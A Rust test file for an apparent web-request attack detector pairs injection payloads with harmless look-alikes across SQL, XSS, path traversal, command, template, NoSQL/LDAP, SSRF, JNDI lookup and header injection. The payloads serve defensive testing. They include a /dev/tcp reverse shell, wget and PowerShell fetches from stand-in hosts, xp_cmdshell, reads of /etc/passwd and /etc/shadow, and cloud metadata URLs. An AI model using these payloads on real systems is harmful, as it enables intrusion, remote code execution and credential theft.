//! Attacks of each kind, and harmless values that look like them.

use std::format;

use super::{assert_found, assert_quiet, findings};
use crate::{Kind, Place, Sensitivity};

#[test]
fn sql_injection_is_found_in_each_context() {
    assert_found(
        Kind::SqlInjection,
        Place::Text,
        &[
            "7 or 7=7",
            "7' or '7'='7",
            "7\" or \"7\"=\"7",
            "7') or ('7'='7",
            "7)) and 3=4-- x",
            "'='",
            "admin'--",
            "admin' #",
            "' or true--",
            "x' || 'y",
            "7 union select name, secret from accounts",
            "7 UNION/**/ALL/**/SELECT null,null",
            "7 /*!50000union*/ /*!50000select*/ 1,2",
            "7; drop table accounts",
            "7'; insert into accounts (id) values (1)--",
            "7'; waitfor delay '0:0:9'--",
            "7'; exec xp_cmdshell('x')",
            "7 order by 9--",
            "7' order by 9#",
            "7 group by 1,2",
            "7'; exec master..xp_cmdshell 'x'--",
            "7' notnull --",
            "7 procedure analyse(extractvalue(1,2),1)",
            "7 into outfile '/tmp/x'",
            "(select password from accounts limit 1)",
            "7' and sleep(9)--",
            "7 and (select 1 from (select sleep(9))x)",
            "case when 1=1 then 2 else 3 end",
            "7-(case when (1=1) then 1 else 0 end)",
            "convert(int,@@version)) or 2=2",
            "information_schema",
            "7 and price>8",
            "7\u{a0}union\u{a0}select\u{a0}2",
            "7%a0union%a0select%a02",
            "7` where 2=2 having 3=4-- x",
            "7`=`7` and sleep(9) and `7`=`7",
            "7';select like(char(65),upper(hex(zeroblob(9))))--",
            "7 un/**/i/**/on se/**/lect name fr/**/om accounts",
            "7' 1.e) or 8=(select 9 1.e) 1.e)-- x",
        ],
    );
}

#[test]
fn words_of_sql_in_prose_are_no_injection() {
    assert_quiet(
        Place::Text,
        &[
            "O'Brien",
            "the `select!` macro and `1` or `2` of them",
            "`a` and `b` where `c` is set",
            "see 1.e), or 1.e, of the list",
            "src/**/index and test/**/main",
            "O'Brien and O'Neil",
            "select a plan from the list",
            "the union of workers selected a few friends",
            "drop the table and the chairs, or update us",
            "Where do I insert the coin?",
            "rock 'n' roll",
            "\"black\" and \"white\"",
            "size 12\" - blue -- new",
            "5 or 6 people, 7 and a half hours",
            "having fun; exec meeting at 7",
            "5'11\"",
            "a = b and c > d",
            "it's 'x' or 'y'",
            "1/2\" x 3'",
            "2024-01-02 10:11:12",
            "#1 -- the best",
            "import Select from 'react-select'",
            "5 or 6",
            "4 and more = better",
        ],
    );
}

#[test]
fn markup_that_runs_is_found() {
    assert_found(
        Kind::Xss,
        Place::Text,
        &[
            "<script>x()</script>",
            "<ScRiPt src=//evil.example>",
            "<svg/onload=f()>",
            "<img src=x onerror=\"f()\">",
            "\" onmouseover=f() x=\"",
            "'><b onclick=f()>",
            "<a href=\"javascript:f()\">",
            "<a href=\"java\tscript:f()\">",
            "<a href=\"&#106;avascript:f()\">",
            "javascript:f()",
            "<iframe src=data:text/html,x>",
            "<x:script xmlns:x=\"a\">",
            "<div style=\"width:expression(f())\">",
            "\"-alert(1)-\"",
            "';alert(1)//",
            "document.cookie",
            "window['alert'](1)",
            "</script>",
            "＜script＞f()＜/script＞",
            "<im<x>g onerror=f() src=y",
        ],
    );
}

#[test]
fn markup_that_does_nothing_is_quiet() {
    assert_quiet(
        Place::Text,
        &[
            "I <3 you",
            "a < b and c > d",
            "<b>bold</b> and <i>italic</i>",
            "<a href=\"/about\">About</a>",
            "Promise<Object> and Array<string>",
            "see <https://example.com>",
            "online=true",
            "JavaScript: the good parts",
            "call confirm() before you prompt the user",
        ],
    );
}

#[test]
fn paths_that_lead_astray_are_found() {
    assert_found(
        Kind::PathTraversal,
        Place::Text,
        &[
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "....//....//etc/passwd",
            "%2e%2e%2f%2e%2e%2f",
            "..%252f..%252f",
            "..%c0%af..%c0%af",
            "..%5c..%5c",
            "/var/www/../../etc/shadow",
            "/0x2e0x2e0x2f0x2e0x2e0x2f",
            "/etc/passwd",
            "/etc/inittab",
            "etc/passwd%00.png",
            "php://filter/convert.base64-encode/resource=x",
            "file:///etc/hosts",
            "c:\\windows\\system32\\x",
            "..;/..;/manager",
            "....etcpasswd",
            "/etc/os-release",
            "/run/secrets/x",
            "/tmp/sess_1a2b3c",
            "http://evil.example/x.txt?",
            "ftp://evil.example/a/x.php??",
        ],
    );
    assert_quiet(
        Place::Text,
        &[
            "and/or",
            "1.2.3",
            "well... yes",
            "a/b/c.png",
            "24/7",
            "https://example.com/a/b?c=d",
            "./build.sh",
            "https://example.com/search?",
            "https://example.com/a.html?b=c?",
            "is it https://example.com/a.txt?",
            "/// a comment",
            "//=> file",
            "src/lib.rs",
        ],
    );
}

#[test]
fn commands_are_found() {
    assert_found(
        Kind::CommandInjection,
        Place::Text,
        &[
            "ls -l /etc/group",
            "7;iwr http://x.example/y.ps1",
            "x; cat /etc/x",
            "x|id",
            "x && wget http://evil.example/x",
            "x$(whoami)",
            "`uname -a`",
            "|/usr/bin/id",
            "x;c'a't /x",
            "x;${IFS}id",
            "() { :;}; x",
            "bash -i >& /dev/tcp/1.2.3.4/5",
            "<?php system('id');",
            "<!--#exec cmd=\"id\"-->",
            "require('child_process').exec('id')",
            "O:8:\"stdClass\":0:{}",
        ],
    );
    assert_quiet(
        Place::Text,
        &[
            "function f() { return a || b && c }",
            "ls -l of the folder",
            "cats & dogs",
            "a; sort of",
            "AT&T; R&D",
            "run `npm install` and then `cat file`",
            "| id | name | date |",
            "red|green|blue",
            "time; and again",
        ],
    );
}

#[test]
fn expressions_of_templates_are_found() {
    assert_found(
        Kind::TemplateInjection,
        Place::Text,
        &[
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "{{''.__class__.__mro__}}",
            "{{config.items()}}",
            "{% if x %}",
            "${T(java.lang.Runtime).getRuntime()}",
            "<%= `id` %>",
            "${facesContext}",
            "{$smarty.version}",
            "#{global.process}",
            "%{(#_='x').(y)}",
            "#request.get('x')",
        ],
    );
    assert_quiet(Place::Text, &["{{ name }}", "${name}", "Hello {name}", "{\"a\":{\"b\":1}}", "#1 {x}"]);
}

#[test]
fn operators_of_document_databases_are_found() {
    assert_found(
        Kind::NosqlInjection,
        Place::Name,
        &["user[$ne]", "$where", "__proto__[x]", "constructor[prototype][x]", "__proto__"],
    );
    assert_found(
        Kind::NosqlInjection,
        Place::Text,
        &["{\"$gt\":\"\"}", "{\"a\":{\"$regex\":\".*\"}}", "{\"__proto__\":{\"x\":1}}", "{'$ne':1}"],
    );
    assert_found(
        Kind::NosqlInjection,
        Place::Text,
        &[
            "*)(uid=*))(|(uid=*",
            "x)(&)",
            "x)(|(secret=*))",
            "*))%00",
            "(&(uid=x)(!(secret=y)))",
            "secret:2.5.13.18:=1",
        ],
    );
    assert_found(
        Kind::NosqlInjection,
        Place::Text,
        &["db.users.drop()", "7;db.users.find({})", ";t=new Date();do{n=new Date();}while(n-t<9000)"],
    );
    assert_quiet(Place::Name, &["user[name]", "$", "price", "constructor_id", "constructor"]);
    let [finding] = &findings(b"constructor", Place::Name, Sensitivity::Strict)[..] else {
        panic!("a key that reaches an object's prototype is told where no text is expected");
    };
    assert_eq!(finding.kind, Kind::NosqlInjection);
    assert_quiet(
        Place::Text,
        &["$5", "US$ne", "$set of keys", "f(x)(y=1)", "(a) (b=c)", "f(&(a))", "10:20:30 := 1"],
    );
    assert_quiet(
        Place::Text,
        &["await db.user.delete({ id })", "see db.users.find() of it", "db.name", "while (a) { new Date() }"],
    );
}

#[test]
fn addresses_inside_the_servers_network_are_found() {
    assert_found(
        Kind::Ssrf,
        Place::Text,
        &[
            "http://169.254.169.254/latest/meta-data/",
            "http://2852039166/",
            "http://0xa9fea9fe/",
            "http://0251.0376.0251.0376/",
            "http://0xA9.254.43518/",
            "http://x@169.254.169.254/",
            "http://[::ffff:a9fe:a9fe]/",
            "http://[fd00:ec2::254]/",
            "http://metadata.google.internal/",
            "http://127.1/",
            "http://0x7f000001/",
            "169.254.169.254",
            "//169.254.169.254/latest",
            "metadata.google.internal",
            "host.docker.internal/",
            "http://kubernetes.default.svc/",
            "http://169.254.169.254@evil.example/",
            "http://a.example#@169.254.169.254/",
            "http://a.example &@169.254.169.254# @b.example/",
            "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/",
            "http://127.0.0.1.nip.io/",
            "http:[::ffff:a9fe:a9fe]",
            "http:/169.254.169.254/",
        ],
    );
    assert_quiet(
        Place::Text,
        &[
            "http://localhost:3000/",
            "https://example.com",
            "http://8.8.8.8/",
            "12:30",
            "http://127.0.0.1:8080",
            "169.253.1.1",
            "https://kubernetes.io/docs/",
            "https://rancher-metadata.example.com/",
            "metadata/a",
            "the host.docker.internal name",
            "http://example.com/?mail=a@10.0.0.1",
            "http://8.8.8.8.nip.io/",
            "①②③",
        ],
    );
}

#[test]
fn lookups_are_found_however_they_are_spelt() {
    assert_found(
        Kind::LookupInjection,
        Place::Header,
        &[
            "${jndi:ldap://evil.example/x}",
            "${${lower:j}ndi:ldap://x}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x}",
            "${${env:X:-j}ndi${env:X:-:}ldap://x}",
            "%24%7bjndi:dns://x%7d",
            "${jnd${upper:ı}:ldap://x}",
            "${url:UTF-8:http://x}",
            "${dns:address|x}",
        ],
    );
    assert_quiet(Place::Header, &["${x}", "${env:HOME}", "$5"]);
}

#[test]
fn lines_that_begin_a_header_are_found_where_none_belong() {
    let values = [
        "x%0d%0aSet-Cookie: a=b",
        "x%0aLocation: //evil.example",
        "x\\r\\nX-Injected: y",
        "x%0d%0a%0d%0aHTTP/1.1 200 OK",
    ];
    assert_found(Kind::HeaderInjection, Place::Query, &values);
    let values = ["x\r\nRCPT TO:<y@z.example>", "x\nV1 CAPABILITY\r\nV2 FETCH 7"];
    assert_found(Kind::HeaderInjection, Place::Text, &values);
    assert_quiet(
        Place::Text,
        &[
            "Dear all,\nsubject: lunch\n",
            "a\nb\nc",
            "Note:\r\nto: do",
            "x\nB2 select a seat",
            "x\nmail from a",
        ],
    );
}

#[test]
fn paths_that_scanners_ask_for_are_found() {
    assert_found(
        Kind::ScannerProbe,
        Place::Path,
        &[
            "/.env",
            "/.git/config",
            "/app/.env.bak",
            "/wp-login.php",
            "/cgi-bin/x",
            "/phpmyadmin/",
            "/backup.sql",
            "/%2eenv",
        ],
    );
    assert_quiet(
        Place::Path,
        &["/", "/about", "/environment", "/products/7/edit", "/.well-known/acme-challenge/x"],
    );
    assert_quiet(Place::Text, &["wp-login.php"]);
}

#[test]
fn values_inside_an_xml_document_are_judged_by_themselves() {
    let value = "<?xml version=\"1.0\"?><order note=\"7' or '7'='7\"><id>7 union select 1</id></order>";
    let found = findings(value.as_bytes(), Place::Text, Sensitivity::Balanced);
    assert!(found.iter().any(|finding| finding.kind == Kind::SqlInjection), "{found:?}");
}

#[test]
fn a_higher_sensitivity_reports_all_that_a_lower_one_does() {
    for value in
        ["7' or '7'='7", "1 or 1", "<b onclick=f()>", "../x", "x | sort", "{{x}}", "http://127.0.0.1/"]
    {
        let scores = |sensitivity| findings(value.as_bytes(), Place::Text, sensitivity).len();
        let [relaxed, balanced, strict] =
            [Sensitivity::Relaxed, Sensitivity::Balanced, Sensitivity::Strict].map(scores);
        assert!(relaxed <= balanced && balanced <= strict, "{value}");
    }
}

#[test]
fn an_attack_behind_any_amount_of_prose_is_found() {
    for length in [0, 100, 4_000, 4_090, 20_000] {
        let value = format!("{}%27 union select 1,2,3--", "lorem ipsum ".repeat(length / 12));
        let found = findings(value.as_bytes(), Place::Query, Sensitivity::Balanced);
        let finding = found.iter().find(|finding| finding.kind == Kind::SqlInjection);
        let finding = finding.unwrap_or_else(|| panic!("not found behind {length} bytes"));
        assert!(finding.end <= value.len() && finding.end > length, "{finding:?}");
    }
}
